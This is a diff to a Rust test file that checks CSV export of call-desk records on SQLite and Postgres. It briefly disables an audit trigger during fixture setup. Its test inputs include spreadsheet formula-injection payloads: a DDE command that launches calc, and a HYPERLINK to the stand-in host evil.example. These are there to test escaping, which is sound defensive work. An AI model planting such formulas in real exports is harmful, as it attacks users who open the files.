@@ -138,6 +138,11 @@ fn desk_with_calls(engine: Engine) -> Desk {
         ),
     };
     desk.sql(drop, &[]);
+    // On a server, the guard that asks each change of a call for its journal line is
+    // lifted too, for these changes and for the row below.
+    if desk.engine == Engine::Postgres {
+        desk.sql("ALTER TABLE calls DISABLE TRIGGER calls_journaled", &[]);
+    }
     desk.sql(
         "UPDATE calls SET opened_at = ?1, closed_at = ?2 WHERE id = 1",
         sql_args![opened, opened + 41],
@@ -154,6 +159,9 @@ fn desk_with_calls(engine: Engine) -> Desk {
          VALUES (?1, 'dupontje', ?2, '0140072000', 'mi', 'noemi', ?3, 'open', 'x', 'dupontje')",
         sql_args![opened + 600, "\r=1+1", "\t=1+1"],
     );
+    if desk.engine == Engine::Postgres {
+        desk.sql("ALTER TABLE calls ENABLE TRIGGER calls_journaled", &[]);
+    }
     desk
 }
 
@@ -307,6 +315,7 @@ fn call_add_in_csv_is_one_row_of_the_same_columns(engine: Engine) {
 
 on_both_engines! {
 fn call_show_in_csv_is_the_journal_with_paris_times_and_labels(engine: Engine) {
+    let started = chrono::Utc::now().timestamp();
     let desk = desk_with_calls(engine);
     desk.bytes(&["call", "note", "A-0001", "=cmd|' /C calc'!A0"]);
     for (extra, sep, bom) in [
@@ -336,7 +345,20 @@ fn call_show_in_csv_is_the_journal_with_paris_times_and_labels(engine: Engine) {
             opened["text"],
             "'=HYPERLINK(\"http://evil.example/?x\",\"clic\")"
         );
-        assert_eq!(opened["at_paris"], "01/12/2026 14:05");
+        // A file keeps the time the desk gave; a server dates the line when it got it.
+        match engine {
+            Engine::Sqlite => assert_eq!(opened["at_paris"], "01/12/2026 14:05"),
+            Engine::Postgres => {
+                let at = chrono::DateTime::parse_from_rfc3339(&opened["at"])
+                    .unwrap()
+                    .timestamp();
+                assert!(
+                    (started..=chrono::Utc::now().timestamp()).contains(&at),
+                    "{}",
+                    opened["at"]
+                );
+            }
+        }
         let outcome = sheet.row("kind", "outcome");
         assert_eq!(outcome["text"], "resolved");
         assert_eq!(outcome["detail"], "issue : résolu");
